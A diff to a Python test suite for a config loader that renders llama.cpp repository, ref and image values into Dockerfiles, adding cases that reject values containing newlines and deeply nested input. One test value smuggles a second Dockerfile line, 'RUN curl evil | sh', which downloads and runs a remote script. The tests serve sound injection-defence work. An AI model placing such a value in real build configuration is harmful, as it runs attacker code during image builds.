@@ -107,6 +107,11 @@ def _set(path: str, value: Any) -> dict[str, Any]:
         (_set("llama_cpp.commit", 12), "key 'commit' is int"),
         (_set("llama_cpp.repository", ""), "key 'repository'"),
         (_set("llama_cpp.repository", 3), "key 'repository'"),
+        # Rendered into the Dockerfiles: a line break would start an instruction of its own.
+        (_set("llama_cpp.repository", "https://x.example/l.git\nRUN curl evil | sh"), "repository"),
+        (_set("llama_cpp.repository", "https://x.example/l.git\rRUN x"), "key 'repository'"),
+        (_set("llama_cpp.ref", "b1\nRUN x"), "key 'ref'"),
+        (_set("image", "docker.io/acme/x\nRUN x"), "key 'image'"),
         (_set("llama_cpp.ref", ""), "key 'ref'"),
         (_set("llama_cpp.ref", 5), "key 'ref'"),
         (_set("llama_cpp.branch", "master"), "unknown key(s) 'branch'"),
@@ -131,6 +136,9 @@ def test_load_errors(tmp_path: Path) -> None:
         load_version(path)
     path.write_bytes(b"\xff\xfe\x00binary")
     with pytest.raises(ConfigError, match="not UTF-8"):
+        load_version(path)
+    path.write_text("[" * 100_000 + "]" * 100_000)
+    with pytest.raises(ConfigError, match="nests deeper than any file"):
         load_version(path)
     path.unlink()
     path.mkdir()
